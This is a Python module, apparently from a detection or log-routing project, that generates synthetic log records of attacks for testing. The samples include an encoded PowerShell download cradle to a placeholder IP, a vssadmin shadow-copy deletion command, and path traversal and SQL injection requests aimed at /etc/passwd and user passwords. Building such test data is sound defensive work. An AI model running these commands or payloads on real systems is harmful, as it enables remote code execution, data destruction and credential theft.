"""Attacks as they look in logs. Each is a short list of messages that belong together."""

import base64
from collections.abc import Callable, Iterator
from typing import Any, TypeAlias

from router.generate import documents, syslog
from router.generate.world import World

Sample: TypeAlias = "tuple[str, str | dict[str, Any]]"
_SYSTEM = "C:\\Windows\\System32\\"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"


def ssh_brute_force(world: World, when: float) -> Iterator[Sample]:
    """Thirty guesses against one server from one address within a few seconds."""
    server, attacker = world.server("jump").name, world.attacker()
    for i in range(30):
        yield "linux", syslog.failed_ssh(world, when + i * 0.1, server, attacker)


def encoded_powershell(world: World, when: float) -> Iterator[Sample]:
    """A Word macro that starts an encoded download cradle."""
    script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.66/a')"
    code = base64.b64encode(script.encode("utf-16-le")).decode()
    image = _SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe"
    yield "windows", documents.sysmon_process(world, when, image, f"powershell.exe -NoP -W Hidden -Enc {code}", _OFFICE)


def shadow_copies_deleted(world: World, when: float) -> Iterator[Sample]:
    """What ransomware does before it encrypts."""
    image = _SYSTEM + "vssadmin.exe"
    yield "windows", documents.sysmon_process(world, when, image, "vssadmin.exe delete shadows /all /quiet", _SYSTEM + "cmd.exe")


def log_cleared(world: World, when: float) -> Iterator[Sample]:
    """The security log is emptied."""
    data = {"SubjectUserName": world.user(), "SubjectDomainName": "CORP", "SubjectLogonId": "0x5a2f1"}
    yield (
        "windows",
        documents.windows(world, when, "Security", "Microsoft-Windows-Eventlog", 1102, data, world.server("file").fqdn),
    )


def web_attack(world: World, when: float) -> Iterator[Sample]:
    """Path traversal and SQL injection against a web server."""
    attacker = world.attacker()
    for request in (
        "GET /../../../../etc/passwd HTTP/1.1",
        "GET /item?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users-- HTTP/1.1",
    ):
        yield "nginx", syslog.nginx(world, when, request, attacker, 400)


def trail_stopped(world: World, when: float) -> Iterator[Sample]:
    """Somebody turns the audit trail off."""
    yield "cloudtrail", documents.cloudtrail(world, when, "StopLogging", "cloudtrail")


ATTACKS: tuple[Callable[[World, float], Iterator[Sample]], ...] = (
    ssh_brute_force,
    encoded_powershell,
    shadow_copies_deleted,
    log_cleared,
    web_attack,
    trail_stopped,
)
